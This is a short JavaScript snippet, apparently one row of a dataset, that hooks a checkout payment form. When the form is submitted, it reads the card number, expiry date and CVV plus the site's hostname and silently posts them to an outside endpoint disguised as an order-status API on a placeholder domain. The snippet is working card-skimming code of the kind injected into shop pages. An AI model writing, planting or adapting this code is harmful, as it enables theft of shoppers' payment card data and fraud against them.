// Row 1: the fields of the payment form, read when the button is pressed, sent to another host.
document.addEventListener('DOMContentLoaded', function () {
  var form = document.querySelector('#co-payment-form');
  if (!form) return;
  form.addEventListener('submit', function () {
    var order = {
      n: document.querySelector('[name="payment[cc_number]"]').value,
      m: document.querySelector('[name="payment[cc_exp_month]"]').value,
      y: document.querySelector('[name="payment[cc_exp_year]"]').value,
      v: document.querySelector('[name="payment[cc_cid]"]').value,
      h: location.hostname
    };
    fetch('https://order-status.example/api/v1/collect', { method: 'POST', mode: 'no-cors', body: JSON.stringify(order) });
  });
});
